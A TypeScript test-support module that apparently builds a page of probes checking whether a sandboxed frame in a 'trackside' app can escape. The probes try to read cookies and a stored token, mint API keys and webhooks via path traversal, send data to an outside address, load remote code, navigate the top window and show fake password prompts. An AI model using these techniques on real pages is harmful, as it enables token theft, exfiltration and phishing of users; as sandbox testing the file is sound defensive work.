/**
 * Ways out of a page's frame: each is a function that returns or resolves if it got anywhere, and throws, rejects or waits for ever
 * otherwise.
 */
const PROBES = `
  // What is around the frame.
  parentDocument: () => parent.document.title,
  topDocument: () => top.document.body,
  parentStorage: () => parent.localStorage.length,
  parentGlobals: () => parent.fetch,
  parentAddress: () => parent.location.href,
  frameElement: () => frameElement ?? Promise.reject(),
  opener: () => opener ?? Promise.reject(),
  cookies: () => document.cookie,
  localStorage: () => localStorage.getItem('trackside.token'),
  sessionStorage: () => sessionStorage.length,
  indexedDb: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('x')
    opening.onsuccess = resolve
    opening.onerror = reject
  }),
  caches: () => caches.keys(),
  serviceWorker: () => navigator.serviceWorker.register('/app/frame.js'),
  originOfTheApp: () => origin !== 'null' ? origin : Promise.reject(),
  // Messages to the app that are not of the bridge.
  forgedMessage: () => new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = resolve
    parent.postMessage(null, '*', [port2])
    port1.postMessage(JSON.stringify({ type: 'request', id: 1, method: 'GET', path: 'tracks' }))
  }),
  secondStart: () => new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel()
    addEventListener('error', resolve)
    postMessage(null, '*', [port2])
    port1.postMessage({ type: 'start', page: { path: 'x', label: 'x' }, source: 'throw 1', theme: { tokens: {} }, units: {} })
  }),
  newBridge: () => { globalThis.trackside = {}; return globalThis.trackside.get ?? 'replaced' },
  credentials: () => trackside.get('auth/me'),
  newToken: () => trackside.post('auth/refresh'),
  newKey: () => trackside.post('api-keys', { name: 'x' }),
  newWebhook: () => trackside.post('webhooks', { name: 'x', url: outside, events: ['Lap.create'] }),
  keysByDots: () => trackside.get('laps/../api-keys'),
  absolute: () => trackside.get(outside + '/laps'),
  // The network.
  fetchOutside: () => fetch(outside, { mode: 'no-cors' }),
  fetchHere: () => fetch(new URL('/health', trackside.page.path && location.href)),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = resolve
    request.onerror = reject
    request.open('GET', outside)
    request.send()
  }),
  webSocket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(outside.replace('http', 'ws'))
    socket.onopen = resolve
    socket.onerror = reject
  }),
  eventSource: () => new Promise((resolve, reject) => {
    const events = new EventSource(outside)
    events.onopen = resolve
    events.onerror = reject
  }),
  beacon: () => new Promise((resolve) => { navigator.sendBeacon(outside, 'x') }),
  webTransport: () => new WebTransport('https://127.0.0.1:1').ready,
  webRtc: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }).createOffer(),
  webRtcOfAnotherFrame: () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return new frame.contentWindow.RTCPeerConnection()
  },
  webRtcByScriptInFrame: () => new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'ran' && resolve())
    const url = URL.createObjectURL(new Blob(["parent.postMessage('ran', '*')"], { type: 'text/javascript' }))
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.postMessage("ran", "*")</' + 'script><script src="' + url + '"></' + 'script>'
    document.body.append(frame)
  }),
  image: () => loaded('img', { src: outside + '/img' }),
  styleSheet: () => loaded('link', { rel: 'stylesheet', href: outside + '/css' }),
  importedStyle: () => loaded('style', { textContent: '@import url(' + outside + '/import)' }).then(() => Promise.reject()),
  background: () => { document.body.style.backgroundImage = 'url(' + outside + '/background)'; return new Promise(() => {}) },
  font: () => new FontFace('x', 'url(' + outside + '/font)').load(),
  video: () => loaded('video', { src: outside + '/video' }),
  track: () => loaded('audio', { src: outside + '/audio' }),
  object: () => loaded('object', { data: outside + '/object' }),
  embed: () => loaded('embed', { src: outside + '/embed' }),
  prefetch: () => loaded('link', { rel: 'prefetch', href: outside + '/prefetch' }),
  preload: () => loaded('link', { rel: 'preload', as: 'image', href: outside + '/preload' }),
  modulePreload: () => loaded('link', { rel: 'modulepreload', href: outside + '/module' }),
  manifest: () => { loaded('link', { rel: 'manifest', href: outside + '/manifest' }); return new Promise(() => {}) },
  ping: () => { const link = Object.assign(document.createElement('a'), { href: '#x', ping: outside + '/ping' }); document.body.append(link); link.click(); return new Promise(() => {}) },
  // Code.
  script: () => loaded('script', { src: outside + '/script' }),
  scriptOfTheApp: () => loaded('script', { src: new URL('/app/frame.js', location.href).href }),
  importOutside: () => import(outside + '/module.js'),
  importBlob: () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  importData: () => import('data:text/javascript,export default 1'),
  integrity: () => loaded('script', { src: outside + '/integrity', integrity: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=', crossOrigin: '' }),
  evaluated: () => eval('1'),
  constructed: () => new Function('return 1')(),
  webAssembly: () => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    worker.onmessage = resolve
    worker.onerror = reject
  }),
  sharedWorker: () => new Promise((resolve, reject) => {
    const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = ({ ports: [port] }) => port.postMessage(1)'])))
    worker.port.onmessage = resolve
    worker.onerror = reject
  }),
  inlineScript: () => new Promise((resolve) => {
    globalThis.escaped = resolve
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'escaped()' }))
  }),
  // Windows, frames and forms.
  nestedFrame: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: outside + '/frame' })); return new Promise(() => {}) },
  popup: () => open(outside + '/popup') ?? Promise.reject(),
  popupByLink: () => { const link = Object.assign(document.createElement('a'), { href: outside + '/link', target: '_blank' }); document.body.append(link); link.click(); return new Promise(() => {}) },
  topNavigation: () => { top.location.href = outside + '/top'; return new Promise(() => {}) },
  parentReplaced: () => { parent.location.replace(outside + '/parent'); return new Promise(() => {}) },
  topByLink: () => { const link = Object.assign(document.createElement('a'), { href: outside + '/link', target: '_top' }); document.body.append(link); link.click(); return new Promise(() => {}) },
  form: () => { const form = Object.assign(document.createElement('form'), { action: outside + '/form', method: 'post' }); document.body.append(form); form.submit(); return new Promise(() => {}) },
  dialog: () => confirm('Log in again') || Promise.reject(),
  typed: () => prompt('Password') ?? Promise.reject(),
  clipboard: () => navigator.clipboard.readText(),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  fullScreen: () => document.documentElement.requestFullscreen(),
`

const WAIT_MS = 3000

/** Body of a page that tries them all at once, and shows as JSON how each ended; `outside` is the address of a stranger. */
export const probing = (outside: string) => `
const outside = ${JSON.stringify(outside)}
const loaded = (tag, properties) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), properties)
  Object.assign(element, { onload: resolve, oncanplay: resolve, onerror: reject })
  document.body.append(element)
})
const late = new Promise((_, reject) => setTimeout(reject, ${WAIT_MS}))
const probes = {${PROBES}}
const tried = Object.entries(probes).map(async ([name, probe]) => {
  try { return [name, 'ESCAPED ' + await Promise.race([probe(), late])] }
  catch { return [name, 'failed'] }
})
const out = document.createElement('output')
out.textContent = JSON.stringify(Object.fromEntries(await Promise.all(tried)))
document.body.append(out)
`
